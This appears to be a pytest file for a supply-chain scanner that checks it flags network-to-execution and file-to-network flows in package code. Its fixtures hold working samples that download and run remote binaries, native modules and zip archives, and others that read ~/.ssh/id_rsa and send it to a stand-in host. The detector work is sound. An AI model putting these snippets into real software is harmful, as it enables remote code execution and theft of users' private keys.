"""Deeds in several steps, through streams, generators, descriptors, alphabets: what is led along is still followed."""

import pytest
from reading import package

FETCHED_PROGRAMS = {
    "a pipeline of streams": """const {pipeline} = require('stream'), fs = require('fs'), {spawn} = require('child_process')
const to = require('path').join(require('os').tmpdir(), 'p' + process.pid)
require('https').get('https://dl.example/p', (answer) => {
  pipeline(answer, fs.createWriteStream(to, {mode: 0o755}), () => { spawn(to, []) })
})""",
    "an awaited pipeline": """import {pipeline} from 'node:stream/promises'
import fs from 'node:fs'
import {spawn} from 'node:child_process'
const answer = await fetch('https://dl.example/p')
await pipeline(answer.body, fs.createWriteStream('/tmp/p-x'))
spawn('/tmp/p-x', [])""",
}


@pytest.mark.parametrize("code", FETCHED_PROGRAMS.values(), ids=FETCHED_PROGRAMS.keys())
def test_a_program_that_is_streamed_into_a_file_and_started_came_from_the_network(code: str) -> None:
    assert any(b.startswith("code.flow network > execution @ lib/a.mjs:") and "(import)" in b
               for b in package({"lib/a.mjs": code}))  # fmt: skip


SENT_KEYS = {
    "a generator of records": """import json, urllib.request
from pathlib import Path
PLACES = {"a": ".ssh/id_rsa"}
def records():
    for name, rel in PLACES.items():
        try:
            data = (Path.home() / rel).read_bytes()
        except OSError:
            continue
        yield {"name": name, "value": data.hex()}
urllib.request.urlopen("https://c.example", json.dumps({"a": list(records())}).encode())
""",
    "a generator that is entered": """import contextlib, os, urllib.request
@contextlib.contextmanager
def key():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as file:
        yield file.read()
with key() as text:
    urllib.request.urlopen("https://c.example", text.encode())
""",
}


@pytest.mark.parametrize("code", SENT_KEYS.values(), ids=SENT_KEYS.keys())
def test_a_key_that_is_handed_on_by_a_generator_is_seen_to_leave(code: str) -> None:
    assert any(b.startswith("code.flow file:~/.ssh/id_rsa > network @ pkg/__init__.py:")
               for b in package({"pkg/__init__.py": code}))  # fmt: skip


FETCHED_CODE = {
    "a native module, poured into a file": """import importlib.machinery, importlib.util, os, shutil, sysconfig, tempfile, urllib.request
name = "_fast" + sysconfig.get_config_var("EXT_SUFFIX")
place = os.path.join(tempfile.mkdtemp(), name)
with urllib.request.urlopen("https://dl.example/" + name) as answer, open(place, "wb") as file:
    shutil.copyfileobj(answer, file)
loader = importlib.machinery.ExtensionFileLoader("_fast", place)
loader.exec_module(importlib.util.module_from_spec(importlib.util.spec_from_loader("_fast", loader)))
""",
    "a library of C": """import ctypes, urllib.request
urllib.request.urlretrieve("https://dl.example/l.so", "/tmp/l.so")
ctypes.CDLL("/tmp/l.so")
""",
    "an archive on the path": """import http.client, importlib, os, sys, tempfile
class Pack:
    module = "parts_x"
    def __enter__(self):
        link = http.client.HTTPSConnection("dl.example")
        link.request("GET", "/pack.zip")
        self.fd, self.path = tempfile.mkstemp(suffix=".zip")
        os.write(self.fd, link.getresponse().read())
        sys.path[:0] = [self.path]
        return self
    def __exit__(self, *all):
        return True
with Pack() as pack:
    importlib.import_module(pack.module)
""",
    "an archive at the head of a new path": """import sys, urllib.request
urllib.request.urlretrieve("https://dl.example/p.zip", "/tmp/p.zip")
sys.path = ["/tmp/p.zip", *sys.path]
import parts_x
""",
    "an archive that is asked itself": """import urllib.request, zipimport
urllib.request.urlretrieve("https://dl.example/p.zip", "/tmp/p.zip")
zipimport.zipimporter("/tmp/p.zip").load_module("p")
""",
}  # fmt: skip


@pytest.mark.parametrize("code", FETCHED_CODE.values(), ids=FETCHED_CODE.keys())
def test_code_that_is_fetched_into_a_file_and_loaded_from_it_is_evaluated(code: str) -> None:
    found = package({"pkg/__init__.py": code})
    assert any(b.startswith("code.flow network > execution @ ") and b.endswith("(import)") for b in found)
    assert any(b.startswith("code.eval ") and b.endswith("(import)") for b in found)


OWN_CODE = {
    "an archive of the package's own on the path": """import os, sys, urllib.request
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "bundle.zip"))
urllib.request.urlretrieve("https://dl.example/words.txt", "/tmp/words.txt")
import bundled_x
""",
    "an installer brings setuptools": """import sys, urllib.request
urllib.request.urlretrieve("https://pypi.example/setuptools.egg", "/tmp/setuptools.egg")
sys.path.insert(0, "/tmp/setuptools.egg")
import setuptools
""",
}


@pytest.mark.parametrize("code", OWN_CODE.values(), ids=OWN_CODE.keys())
def test_a_module_from_elsewhere_than_what_was_fetched_is_no_fetched_code(code: str) -> None:
    assert not any("> execution" in b for b in package({"pkg/__init__.py": code}))


def test_a_native_module_of_node_that_was_fetched_is_evaluated_where_it_is_opened() -> None:
    code = """const fs = require('fs')
require('https').get('https://dl.example/n', (answer) => {
  const parts = []
  answer.on('data', (part) => parts.push(part))
  answer.on('end', () => {
    fs.writeFileSync('/tmp/n.node', Buffer.concat(parts))
    process.dlopen({exports: {}}, '/tmp/n.node')
  })
})"""
    found = package({"lib/a.js": code})
    assert "code.flow network > execution @ lib/a.js:7 (import)" in found
    assert "code.eval import /tmp/n.node @ lib/a.js:7 (import)" in found
